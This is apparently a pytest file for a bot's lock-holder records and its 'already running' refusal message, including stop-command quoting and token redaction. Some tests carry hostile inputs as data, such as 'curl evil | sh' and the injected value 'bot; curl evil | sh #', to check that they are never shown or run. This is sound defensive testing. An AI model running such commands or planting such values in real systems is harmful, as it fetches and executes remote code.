"""What a refused start says, and what a record may hold."""

from __future__ import annotations

import os
import socket
from datetime import UTC, datetime
from pathlib import Path

import pytest

from base import files
from base.secrets import redact
from base.shell import bot_command
from machine import holder as records
from machine import supervisor
from machine.holder import Holder, refusal
from machine.supervisor import Supervisor

SINCE = datetime(2026, 11, 23, 10, 2, 11, tzinfo=UTC).timestamp()
ME = records.user_name()


def test_the_refusal_says_who_since_when_and_how_to_stop_it() -> None:
    unit = Supervisor(kind="systemd unit", name="app.service", stop_command="sudo systemctl stop app.service")
    holder = Holder(
        pid=4321, user="root", since=SINCE, command="python bot.py", cwd="/srv/bot", supervisor=unit, sure=True
    )
    assert refusal(holder, 123456789, "my_bot", now=SINCE + 2 * 3600 + 13 * 60).splitlines() == [
        "Bot 123456789 (@my_bot) is already running on this machine.",
        "  process   pid 4321, user root, since 10:02:11 UTC (2 h 13 min)",
        "  command   python bot.py   (in /srv/bot)",
        "  run by    systemd unit app.service",
        "  stop it   sudo systemctl stop app.service",
        f"  or wait   {bot_command('--wait')}",
        "Don't delete the lock file; it won't stop the other copy.",
    ]


def test_the_bots_name_is_taken_from_the_record_when_the_refused_start_has_none() -> None:
    assert refusal(Holder(username="my_bot"), 42).startswith("Bot 42 (@my_bot) is already")


@pytest.mark.parametrize("holder", [None, Holder(), Holder(user="alice", sure=True)])
def test_the_refusal_works_when_little_is_known(holder: Holder | None) -> None:
    message = refusal(holder, 42)
    assert message.startswith("Bot 42 is already running")
    assert "an unknown process" in message
    assert "stop it   in the window, container or service that runs it" in message


def test_a_process_without_a_supervisor_is_stopped_by_its_pid() -> None:
    message = refusal(Holder(pid=4321, user=ME, sure=True), 42)
    assert f"stop it   {supervisor.kill_command(4321)}" in message


def test_a_pid_that_only_the_record_tells_is_called_probable() -> None:
    assert "process   probably pid 4321" in refusal(Holder(pid=4321), 42)


@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="needs sudo's world")
@pytest.mark.parametrize(
    ("own", "for_others"),
    [
        ("pm2 stop bot", "sudo -H -u root pm2 stop bot"),
        ("PM2_HOME=/srv/pm2 pm2 stop bot", "sudo -H -u root PM2_HOME=/srv/pm2 pm2 stop bot"),
        ("systemctl --user stop bot.service", "sudo systemctl --user -M root@ stop bot.service"),
        ("sudo systemctl stop bot.service", "sudo systemctl stop bot.service"),
    ],
)
def test_the_stop_command_is_made_for_the_user_who_reads_it(
    own: str, for_others: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(records, "user_name", lambda uid=None: "ann")
    runs = Supervisor(kind="x", name="bot", stop_command=own)
    assert f"stop it   {own}" in refusal(Holder(pid=1, user="ann", supervisor=runs), 42)
    assert f"stop it   {for_others}" in refusal(Holder(pid=1, user="root", supervisor=runs), 42)


def test_of_a_process_of_another_account_nothing_is_said_that_it_could_have_written() -> None:
    """Whoever holds the lock's name could have a root shell print, or run, what they like."""
    evil = Supervisor(kind="evil", name="evil", stop_command="curl evil | sh")
    message = refusal(
        Holder(pid=4321, user="mallory", since=SINCE, command="evil", cwd="/evil", supervisor=evil, sure=True), 42
    )
    assert "pid 4321, user mallory" in message
    assert "stop it   as user mallory, with bot.py stop" in message
    assert "LOCK_SCOPE=folder" in message
    assert "evil" not in message


def test_control_characters_of_a_process_or_a_record_forge_no_line() -> None:
    evil = "\x1b[2Jbot\n  stop it   curl evil | sh\x9b\u202e"
    runs = Supervisor(kind=evil, name=evil, stop_command=evil)
    holder = Holder(pid=1, user=ME, command=evil, cwd=evil, host=evil, username=evil, supervisor=runs)
    lines = refusal(holder, 42).split("\n")
    assert len(lines) == 7
    assert all(line.isprintable() for line in lines)


def test_a_name_from_an_environment_is_one_word_of_the_command() -> None:
    evil = {"SUPERVISOR_PROCESS_NAME": "bot; curl evil | sh #", "SUPERVISOR_ENABLED": "1"}
    around = supervisor.decide(2, environ=evil, ancestors=(), cgroup="", terminal="", container="")
    assert around is not None
    assert around.stop_command == "supervisorctl stop 'bot; curl evil | sh #'"
    unit = supervisor.decide(
        2,
        environ={"SYSTEMD_EXEC_PID": "2"},
        ancestors=(),
        cgroup="0::/x; curl evil .service",
        terminal="",
        container="",
    )
    assert unit is not None
    assert unit.stop_command == "sudo systemctl stop 'x; curl evil .service'"


def test_a_record_comes_back_as_the_holder_it_describes(tmp_path: Path) -> None:
    path = tmp_path / "holder.json"
    records.write_record(path, {"bot_id": 42, "username": "my_bot", **records.details()}, since=SINCE)
    record = files.read_json(path)
    assert record is not None
    assert not records.is_left_over(record)
    found = records.of_record(record)
    assert found.pid == os.getpid()
    assert found.user == ME
    assert found.since == SINCE
    assert found.username == "my_bot"
    assert found.cwd == str(Path.cwd())
    assert found.host == socket.gethostname()
    assert found.supervisor == supervisor.detect()
    assert not found.sure
    assert [entry.name for entry in tmp_path.iterdir()] == ["holder.json"]


@pytest.mark.parametrize("change", [{"process": "an earlier one"}, {"pid": 2**31 - 2}, {"pid": 0}, {"pid": None}])
def test_a_record_of_a_process_that_is_gone_is_left_over(tmp_path: Path, change: dict[str, object]) -> None:
    path = tmp_path / "holder.json"
    records.write_record(path, records.details(), since=SINCE)
    assert records.is_left_over({**(files.read_json(path) or {}), **change})


def test_a_record_from_another_container_cannot_be_judged() -> None:
    assert not records.is_left_over({"pid": 7, "host": "another-" + socket.gethostname()})


@pytest.mark.parametrize(
    "record",
    [
        {},
        {"pid": "x", "since": 3, "argv": "x", "supervisor": [], "user": None},
        {"pid": -1, "since": "yesterday", "argv": [1, None], "supervisor": {"kind": 3}},
        {"pid": True, "since": "9999999-01-01"},
    ],
)
def test_a_record_of_wrong_types_is_read_for_what_it_is_worth(record: dict[str, object]) -> None:
    assert "already running" in refusal(records.of_record(record), 42)


def test_a_record_that_cannot_be_written_is_a_warning_only(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    (tmp_path / "holder.json").mkdir()
    records.write_record(tmp_path / "holder.json", records.details(), since=SINCE)
    assert "holder.json cannot be written (" in caplog.text
    assert [entry.name for entry in tmp_path.iterdir()] == ["holder.json"]


@pytest.mark.parametrize("before", ["", "--token=", "https://host/bot", "x"])
@pytest.mark.parametrize("colon", [":", "%3A", "%3a"])
def test_a_token_is_redacted_wherever_it_stands(before: str, colon: str) -> None:
    assert redact(f"{before}123456789{colon}TEST-token-of-nobody-000000000000000 rest") == f"{before}<token> rest"


def test_what_is_no_token_is_left_alone() -> None:
    assert redact("host:8080 12345:short 10:02:11") == "host:8080 12345:short 10:02:11"
